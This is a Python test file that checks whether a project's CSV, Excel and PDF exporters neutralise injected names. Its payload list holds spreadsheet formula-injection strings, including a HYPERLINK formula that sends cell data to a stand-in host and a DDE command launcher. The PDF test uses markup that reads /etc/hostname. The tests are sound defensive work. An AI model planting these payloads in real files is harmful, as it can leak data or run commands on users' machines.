"""Attack pass (issue 11): text people typed (a unit's or member's name, a place) in exported files.

- CSV (registry exports and import reports): a cell starting with = + - @ is neutralised with a
  leading apostrophe, so Excel shows it instead of running it; plain signed numbers stay numbers.
- Excel (evaluation reports): such a string is stored as text with Excel's quote prefix, never as a
  formula (xlsxwriter turned "=…" strings into formulas by default) nor as a hyperlink.
- PDF (evaluation reports): reportlab reads a paragraph as markup; a name like ``<img src=…>``
  made the report fail (500) or pulled a local file into it. Names are printed as text.
"""

from __future__ import annotations

import csv
import io
import zipfile

from gongjian_evaluation.service import reports
from gongjian_registry.adapters.sheets import write_csv

PAYLOADS = ['=HYPERLINK("http://127.0.0.1/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1"]


def test_csv_cells_that_excel_would_run_are_neutralised():
    text = write_csv(["名称", "数量"], [[p, "-3"] for p in PAYLOADS]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in rows] == [f"'{p}" for p in PAYLOADS]
    assert {r[1] for r in rows} == {"-3"}  # a number is not a formula


def test_excel_reports_store_names_as_text_not_formulas():
    book = reports.xlsx("报表", [("单位", ["名次", "单位", "得分"], [[i + 1, p, 9.5] for i, p in enumerate(PAYLOADS)]
                                 + [[9, "http://127.0.0.1/x", 1]])])
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet.lower()
    assert 'quotePrefix="1"' in styles


def test_pdf_reports_print_markup_in_names_as_text():
    names = ['<img src="/etc/hostname" width="9" height="9"/>', "A<B 单位", '<a href="javascript:1">链接</a>']
    content = reports.pdf("<b>报表</b>", "截至今日", [("单位", ["名次", "单位"], [[1, n] for n in names])])
    assert content.startswith(b"%PDF") and b"/URI" not in content  # no link made of a name
